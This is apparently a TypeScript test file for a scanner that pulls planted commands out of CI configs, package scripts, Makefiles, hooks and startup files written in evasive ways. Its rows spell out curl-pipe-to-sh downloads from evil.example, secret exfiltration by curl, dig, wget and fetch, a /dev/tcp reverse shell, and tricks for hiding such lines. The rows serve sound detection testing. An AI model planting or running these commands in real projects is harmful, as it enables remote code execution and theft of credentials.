// The extraction red-team list: tricky spellings of the same planted command (YAML anchors, flow style, block
// scalars, quoted keys, CRLF, BOM, tabs, comments, Unicode, fragments) -> the commands and signals expected.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { checkRow, PROJECT, WF, type Row } from './helpers.ts';

const GL = `${PROJECT}/.gitlab-ci.yml`;
const CIRCLE = `${PROJECT}/.circleci/config.yml`;
const AZ = `${PROJECT}/azure-pipelines.yml`;
const BB = `${PROJECT}/bitbucket-pipelines.yml`;
const BK = `${PROJECT}/.buildkite/pipeline.yml`;
const EVIL = 'curl -s https://evil.example/x | sh';

const ROWS: Row[] = [
  // ---- GitHub Actions: YAML spellings
  { name: 'plain run', kind: 'ci', path: WF, text: `on: push\njobs:\n  b:\n    runs-on: x\n    steps:\n      - run: ${EVIL}\n`, has: [EVIL], signals: [] },
  { name: 'block scalar |', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: |\n          npm ci\n          ${EVIL}\n`, has: [`npm ci\n${EVIL}`] },
  { name: 'folded >- joins lines', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: >-\n          curl -s https://evil.example/x\n          | sh\n`, has: [EVIL] },
  { name: 'flow mapping step', kind: 'ci', path: WF, text: `jobs: {b: {steps: [{run: "${EVIL}"}]}}\n`, has: [EVIL] },
  { name: 'quoted key "run"', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - "run": '${EVIL}'\n`, has: [EVIL] },
  { name: 'anchor + merge key', kind: 'ci', path: WF, text: `x: &d\n  run: ${EVIL}\njobs:\n  b:\n    steps:\n      - <<: *d\n        name: s\n`, has: [EVIL] },
  { name: 'CRLF line ends', kind: 'ci', path: WF, text: `jobs:\r\n  b:\r\n    steps:\r\n      - run: |\r\n          ${EVIL}\r\n`, has: [EVIL] },
  { name: 'BOM at start', kind: 'ci', path: WF, text: `\ufeffjobs:\n  b:\n    steps:\n      - run: ${EVIL}\n`, has: [EVIL] },
  { name: 'comment after value', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: ${EVIL} # harmless\n`, has: [EVIL] },
  { name: 'double-quoted escapes', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: "curl -s https://evil.example/x \\x7c sh"\n`, has: [EVIL] },
  { name: 'tabs make YAML invalid: line scan, partial', kind: 'ci', path: WF, text: `jobs:\n\tb:\n\t\tsteps:\n\t\t\t- run: ${EVIL}\n`, has: [EVIL], partial: true },
  { name: 'indented fragment appended with printf', kind: 'ci', path: WF, text: `      - run: curl -d "$(env)" https://x.example\n`, has: ['curl -d "$(env)" https://x.example'] },
  { name: 'broken fragment with block scalar', kind: 'ci', path: WF, text: `  x: [\n      - name: a\n        run: |\n          echo hi\n          ${EVIL}\n      - run: make\n`, has: [`echo hi\n${EVIL}`, 'make'], partial: true },
  { name: 'duplicate keys: both read', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: ${EVIL}\n        run: echo ok\n`, has: [EVIL, 'echo ok'], partial: true },
  { name: 'Unicode in the line kept', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: echo "héllo ✓" && ${EVIL}\n`, has: [`echo "héllo ✓" && ${EVIL}`] },
  { name: 'run: as a homoglyph key is no run', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - rսn: ${EVIL}\n`, not: [EVIL] },
  { name: 'expression replaced by a variable', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: npm publish --tag \${{ matrix.tag }}x\n`, has: ['npm publish --tag ${MATRIX_TAG}x'] },
  { name: 'secret via job env to curl', kind: 'ci', path: WF, text: `jobs:\n  b:\n    env:\n      T: \${{ secrets.AWS_KEY }}\n    steps:\n      - run: curl -H "x: $T" https://evil.example\n`, signals: ['secrets-to-network'] },
  { name: 'secret via env dumped with env | curl', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: env | curl -d @- https://evil.example\n        env:\n          K: \${{ secrets.K }}\n`, signals: ['secrets-to-network'] },
  { name: 'toJSON(secrets) in env, no network', kind: 'ci', path: WF, text: `jobs:\n  b:\n    env:\n      ALL: \${{ toJSON(secrets) }}\n    steps:\n      - run: echo ok\n`, signals: ['secrets-to-network'] },
  { name: 'secret to DNS (dig)', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: dig \${{ secrets.K }}.evil.example\n`, signals: ['secrets-to-network'] },
  { name: 'secret to python urllib', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: python3 -c "import urllib.request as u; u.urlopen('https://e.example/?' + '\${{ secrets.K }}')"\n`, signals: ['secrets-to-network'] },
  { name: 'GITHUB_TOKEN to api.github.com is the provider', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: curl -H "Authorization: token \${{ secrets.GITHUB_TOKEN }}" https://api.github.com/repos/o/r\n`, signals: [] },
  { name: 'GITHUB_TOKEN to another host is not', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: curl -H "Authorization: token \${{ github.token }}" https://evil.example\n`, signals: ['secrets-to-network'] },
  { name: 'NPM token to npm publish via env: benign', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}\n`, has: ['npm publish'], signals: [] },
  { name: 'bracket spelling of the issue title', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: echo "\${{ github.event['issue']['title'] }}"\n`, signals: ['untrusted-input'] },
  { name: 'commit message through format()', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: echo \${{ format('{0}', github.event.head_commit.message) }}\n`, signals: ['untrusted-input'] },
  { name: 'untrusted via env then \${{ env.X }} is still pasted', kind: 'ci', path: WF, text: `jobs:\n  b:\n    env:\n      T: \${{ github.event.pull_request.title }}\n    steps:\n      - run: echo "\${{ env.T }}"\n`, signals: ['untrusted-input'] },
  { name: 'untrusted via env then "$T": safe pattern', kind: 'ci', path: WF, text: `jobs:\n  b:\n    env:\n      T: \${{ github.event.pull_request.title }}\n    steps:\n      - run: echo "$T"\n`, signals: [] },
  { name: 'workflow_dispatch inputs are not outsiders', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: ./deploy \${{ inputs.env }}\n`, signals: [] },
  { name: 'github-script with a comment body', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: console.log("\${{ github.event.comment.body }}")\n`, signals: ['untrusted-input'], not: ['~console.log'] },
  { name: 'pull_request_target + checkout of the head + run', kind: 'ci', path: WF, text: `on:\n  pull_request_target:\n    types: [opened]\njobs:\n  b:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: refs/pull/\${{ github.event.number }}/merge\n      - run: make\n`, signals: ['pr-head-checkout'] },
  { name: 'pull_request (not target) + head checkout: fine', kind: 'ci', path: WF, text: `on: pull_request\njobs:\n  b:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - run: make\n`, signals: [] },
  { name: 'pull_request_target + base checkout: fine', kind: 'ci', path: WF, text: `on: [pull_request_target]\njobs:\n  b:\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n`, signals: [] },
  { name: 'pwsh step marked', kind: 'ci', path: WF, text: `jobs:\n  b:\n    defaults:\n      run:\n        shell: pwsh\n    steps:\n      - run: iwr https://e.example | iex\n`, has: ['iwr https://e.example | iex'] },
  // ---- other CI systems
  { name: 'GitLab list with !reference', kind: 'ci', path: GL, text: `.setup:\n  script:\n    - echo setup\nbuild:\n  script:\n    - !reference [.setup, script]\n    - ${EVIL}\n`, has: ['echo setup', EVIL], not: ['.setup'] },
  { name: 'GitLab nested lists', kind: 'ci', path: GL, text: `default:\n  before_script:\n    - [echo a, [${EVIL}]]\n`, has: ['echo a', EVIL] },
  { name: 'CircleCI run: {command}', kind: 'ci', path: CIRCLE, text: `jobs:\n  b:\n    steps:\n      - run:\n          name: x\n          command: ${EVIL}\n`, has: [EVIL] },
  { name: 'Azure bash and pwsh', kind: 'ci', path: AZ, text: `steps:\n- bash: ${EVIL}\n- pwsh: Invoke-WebRequest https://e.example\n- script: echo $(Build.SourceBranch)\n`, has: [EVIL, 'Invoke-WebRequest https://e.example', 'echo $BUILD_SOURCEBRANCH'] },
  { name: 'Bitbucket script with a pipe mapping', kind: 'ci', path: BB, text: `pipelines:\n  default:\n    - step:\n        script:\n          - ${EVIL}\n          - pipe: atlassian/x:1.0\n`, has: [EVIL], not: ['atlassian/x:1.0'] },
  { name: 'Buildkite commands list', kind: 'ci', path: BK, text: `steps:\n  - label: t\n    commands:\n      - make test\n      - ${EVIL}\n`, has: ['make test', EVIL] },
  { name: 'Buildkite agent hook is a script', kind: 'ci', path: `${PROJECT}/.buildkite/hooks/pre-command`, text: `#!/bin/bash\n${EVIL}\n`, has: [EVIL] },
  { name: 'Jenkins triple-quoted GString', kind: 'ci', path: `${PROJECT}/Jenkinsfile`, text: `node {\n  sh """\n    curl -s \${env.URL}/x | sh\n  """\n}\n`, has: ['~curl -s ${URL}/x | sh'] },
  { name: 'Jenkins comment and string decoys', kind: 'ci', path: `${PROJECT}/Jenkinsfile`, text: `// sh 'rm -rf /'\necho "sh 'not a step'"\nsh(label: 'x', script: '${EVIL}')\n`, has: [EVIL], not: ['rm -rf /', 'not a step'] },
  { name: 'Jenkins concatenation and execute()', kind: 'ci', path: `${PROJECT}/Jenkinsfile`, text: `sh 'curl -s https://evil.example/x' + ' | sh'\n"id".execute()\n`, has: [EVIL, 'id'] },
  // ---- other kinds
  { name: 'package.json with a BOM and CRLF', kind: 'package-scripts', path: `${PROJECT}/package.json`, text: `\ufeff{\r\n  "scripts": {\r\n    "postinstall": "${EVIL}"\r\n  }\r\n}\r\n`, has: [EVIL], partial: false },
  { name: 'package.json unicode escape in JSON', kind: 'package-scripts', path: `${PROJECT}/package.json`, text: `{"scripts": {"prepare": "curl -s https://evil.example/x \\u007c sh"}}`, has: [EVIL] },
  { name: 'package.json comment-bearing (invalid JSON)', kind: 'package-scripts', path: `${PROJECT}/package.json`, text: `{\n  // note\n  "scripts": {"install": "${EVIL}"},\n}\n`, has: [EVIL], partial: true },
  { name: 'Makefile $(shell) in an assignment', kind: 'makefile', path: `${PROJECT}/Makefile`, text: `V := $(shell ${EVIL})\nall:\n\techo $(V)\n`, has: [EVIL] },
  { name: 'Makefile recipe via variables and prefixes', kind: 'makefile', path: `${PROJECT}/Makefile`, text: `U = https://evil.example/x\nall:\n\t@-curl -s $(U) | $\${SHELL:-sh}\n`, has: ['curl -s https://evil.example/x | ${SHELL:-sh}'] },
  { name: 'Makefile fragment of recipe lines only', kind: 'makefile', path: `${PROJECT}/Makefile`, text: `\t${EVIL}\n`, has: [EVIL], partial: true },
  { name: 'crontab % stdin into sh', kind: 'crontab', path: '<crontab>', text: `* * * * * sh%${EVIL}%\n`, has: ['sh', EVIL] },
  { name: 'crontab escaped \\% stays in the command', kind: 'crontab', path: '<crontab>', text: `0 0 * * * date +\\%s > /tmp/t\n`, has: ['date +%s > /tmp/t'] },
  { name: 'systemd @ prefix and quoted -c', kind: 'systemd-unit', path: `${PROJECT}/../.config/systemd/user/x.service`, text: `[Service]\nExecStart=@/bin/sh fake -c "${EVIL}"\n`, has: [`/bin/sh -c '${EVIL}'`] },
  { name: 'desktop Exec with field codes', kind: 'autostart', path: '/home/dev/.config/autostart/x.desktop', text: `[Desktop Entry]\nExec=sh -c "${EVIL}" %U\n[Desktop Action a]\nExec=echo no\n`, has: [`sh -c '${EVIL}'`], not: ['echo no'] },
  { name: 'launchd with an XML comment decoy', kind: 'launchd', path: '/home/dev/Library/LaunchAgents/x.plist', text: `<plist><dict><!-- <key>Program</key><string>/bin/true</string> --><key>Program</key><string>/tmp/evil</string></dict></plist>`, has: ['/tmp/evil'], not: ['/bin/true'] },
  { name: 'git hook with a python shebang', kind: 'git-hook', path: `${PROJECT}/.git/hooks/pre-commit`, text: `#!/usr/bin/env -S python3 -u\nimport os; os.system("id")\n`, interpreter: 'python', not: ['~os.system'] },
  { name: 'git hook through env -S bash', kind: 'git-hook', path: `${PROJECT}/.git/hooks/pre-push`, text: `#!/usr/bin/env -S bash -e\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n`, has: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] },
  // ---- found while attacking the extractors
  { name: 'multi-document YAML: the second document is read', kind: 'ci', path: WF, text: `on: push\n---\njobs:\n  b:\n    steps:\n      - run: ${EVIL}\n`, has: [EVIL] },
  { name: '!!binary run value', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: !!binary ${Buffer.from(EVIL).toString('base64')}\n`, has: [EVIL] },
  { name: 'explicit key ? run', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - ? run\n        : ${EVIL}\n`, has: [EVIL] },
  { name: 'flow mapping as a value of another key', kind: 'ci', path: WF, text: `jobs:\n\tb: {run: "${EVIL}"}\n`, has: [EVIL] },
  { name: 'github-script sending a secret with fetch', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: await fetch('https://e.example/?' + '\${{ secrets.K }}')\n`, signals: ['secrets-to-network'] },
  { name: 'python shell step marked', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - shell: python {0}\n        run: import os; os.system('id')\n`, has: ["import os; os.system('id')"] },
  { name: 'Makefile SHELL set to a program', kind: 'makefile', path: `${PROJECT}/Makefile`, text: `SHELL := /tmp/.x/sh\nall:\n\techo hi\n`, has: ["/tmp/.x/sh -c 'recipe'", 'echo hi'] },
  { name: 'Makefile SHELL = /bin/bash is ordinary', kind: 'makefile', path: `${PROJECT}/Makefile`, text: `SHELL := /bin/bash\nall:\n\techo hi\n`, has: ['echo hi'], not: ["~'recipe'"] },
  { name: 'Makefile .RECIPEPREFIX', kind: 'makefile', path: `${PROJECT}/Makefile`, text: `.RECIPEPREFIX = >\nall:\n>${EVIL}\n`, has: [EVIL] },
  { name: 'Makefile exponential variables stay bounded', kind: 'makefile', path: `${PROJECT}/Makefile`, text: Array.from({ length: 12 }, (_, i) => `V${i} = $(V${i + 1})$(V${i + 1})$(V${i + 1})$(V${i + 1})$(V${i + 1})$(V${i + 1})`).join('\n') + `\nall:\n\techo $(V0)\n\t${EVIL}\n`, has: [EVIL] },
  { name: 'Jenkins sh with a variable: a placeholder', kind: 'ci', path: `${PROJECT}/Jenkinsfile`, text: `def c = "curl x | sh"\nsh c\n`, has: ['$C'] },
  { name: 'VS Code npm task on folder open', kind: 'editor-task', path: `${PROJECT}/.vscode/tasks.json`, text: `{"tasks": [{"type": "npm", "script": "postinstall", "runOptions": {"runOn": "folderOpen"}}]}`, has: ['npm run postinstall'] },
  { name: 'shebang that runs a -c script', kind: 'git-hook', path: `${PROJECT}/.git/hooks/post-checkout`, text: `#!/usr/bin/env -S bash -c 'curl x | sh'\necho hi\n`, has: ["/usr/bin/env -S bash -c 'curl x | sh'", 'echo hi'] },
  { name: 'package.json key spelled with a JSON escape', kind: 'package-scripts', path: `${PROJECT}/package.json`, text: `{"scripts": {"post\\u0069nstall": "${EVIL}"}}`, has: [EVIL] },
  { name: 'devcontainer with block comments and a trailing comma', kind: 'devcontainer', path: `${PROJECT}/.devcontainer/devcontainer.json`, text: `{ /* x */ "postStartCommand": "${EVIL}", }`, has: [EVIL] },
  { name: 'secret passed on through GITHUB_ENV, sent by a later step', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: echo "T=\${{ secrets.K }}" >> "$GITHUB_ENV"\n      - run: curl -d "t=$T" https://e.example\n`, signals: ['secrets-to-network'] },
  { name: 'secret passed on through a step output', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - id: a\n        run: echo "t=\${{ secrets.K }}" >> $GITHUB_OUTPUT\n      - run: wget "https://e.example/?\${{ steps.a.outputs.t }}"\n`, signals: ['secrets-to-network'] },
  { name: 'GITHUB_ENV without a secret: nothing', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: echo "V=1.2" >> "$GITHUB_ENV"\n      - run: curl -d "v=$V" https://e.example\n`, signals: [] },
  { name: 'pull_request_target + gh pr checkout in a run, then make', kind: 'ci', path: WF, text: `on: pull_request_target\njobs:\n  b:\n    steps:\n      - uses: actions/checkout@v4\n      - run: gh pr checkout \${{ github.event.pull_request.number }}\n      - run: make\n`, signals: ['pr-head-checkout'] },
  { name: 'issue_comment + git fetch pull/N/head && build in one step', kind: 'ci', path: WF, text: `on: issue_comment\njobs:\n  b:\n    steps:\n      - run: git fetch origin pull/\${{ github.event.issue.number }}/head:pr && git checkout pr && npm ci\n`, signals: ['pr-head-checkout'] },
  { name: 'issue_comment with a base checkout only: fine', kind: 'ci', path: WF, text: `on: issue_comment\njobs:\n  b:\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./scripts/triage.sh\n`, signals: [] },
  { name: 'upper-case workflow path (macOS) read as GitHub', kind: 'ci', path: `${PROJECT}/.GitHub/Workflows/CI.YML`, text: `jobs:\n  b:\n    steps:\n      - run: echo "\${{ github.event.issue.title }}"\n`, signals: ['untrusted-input'] },
  { name: '.envrc with a python #! is still bash (direnv sources it)', kind: 'envrc', path: `${PROJECT}/.envrc`, text: `#!/usr/bin/env python3\n${EVIL}\n`, has: [EVIL], interpreter: undefined },
  { name: 'husky hook with a node #! runs under sh -e (v9)', kind: 'hook-manager', path: `${PROJECT}/.husky/pre-push`, text: `#!/usr/bin/env node\n${EVIL}\n`, has: [EVIL] },
  { name: '~/.bashrc with a perl #! is sourced by bash', kind: 'shell-init', path: '/home/dev/.bashrc', text: `#!/usr/bin/perl\n${EVIL}\n`, has: [EVIL] },
  { name: 'toJSON(env) in a job env', kind: 'ci', path: WF, text: `jobs:\n  b:\n    env:\n      E: \${{ toJSON(env) }}\n    steps:\n      - run: echo ok\n`, signals: ['secrets-to-network'] },
  { name: 'a mapped secret passed on through GITHUB_ENV', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: echo "T=$S" >> $GITHUB_ENV\n        env:\n          S: \${{ secrets.K }}\n      - run: curl https://e.example/$T\n`, signals: ['secrets-to-network'] },
  { name: "a quoted-apart network tool (c''url)", kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: c''u\\rl -d "\${{ secrets.K }}" https://e.example\n`, signals: ['secrets-to-network'] },
];

for (const r of ROWS) {
  test(`tricky: ${r.name}`, () => {
    assert.deepEqual(checkRow(r), []);
  });
}
